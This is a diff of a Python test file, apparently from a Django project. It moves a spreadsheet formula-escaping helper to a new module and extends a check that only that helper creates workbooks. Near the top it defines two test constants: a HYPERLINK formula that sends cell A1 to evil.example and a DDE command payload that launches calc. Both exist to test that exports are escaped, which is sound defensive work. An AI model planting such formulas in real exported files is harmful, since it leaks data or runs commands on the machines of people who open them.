@@ -18,11 +18,11 @@ from openpyxl import Workbook, load_workbook
 
 from activities.factories import ActivityFactory, HeldMeetingFactory
 from activities.models import Attendance
+from kernel.xlsx import FORMULA_STARTS
 from members import excel
 from members.factories import MemberFactory
 from pairing.factories import ContributionFactory, UnitFactory
 from portal.factories import RectificationFactory
-from portal.xlsx import FORMULA_STARTS
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
 DDE = "=cmd|' /C calc'!A0"
@@ -134,14 +134,15 @@ def test_unit_feedback_report(world, client_as):
 
 
 def test_every_workbook_is_written_through_the_one_helper():
-    """A new export cannot forget the escaping: only portal/xlsx.py makes workbooks."""
-    allowed = {ROOT / "portal" / "xlsx.py",
+    """A new export cannot forget the escaping: only kernel/xlsx.py makes workbooks."""
+    allowed = {ROOT / "kernel" / "xlsx.py",
                # Writes a test file for the import benchmark, never served to anybody.
-               ROOT / "members" / "management" / "commands" / "bench_import.py"}
+               ROOT / "bench" / "management" / "commands" / "bench_import.py"}
     pattern = re.compile(r"\bimport xlsxwriter\b|from openpyxl import .*\bWorkbook\b|"
                          r"openpyxl\.Workbook\(|\.save\((buffer|output|out)\)")
     offenders = [str(path.relative_to(ROOT))
-                 for app in ["portal", "members", "activities", "organizations", "pairing"]
+                 for app in ["kernel", "portal", "members", "activities", "organizations",
+                             "pairing", "bench"]
                  for path in (ROOT / app).rglob("*.py")
                  if path not in allowed and pattern.search(path.read_text(encoding="utf-8"))]
     assert offenders == []
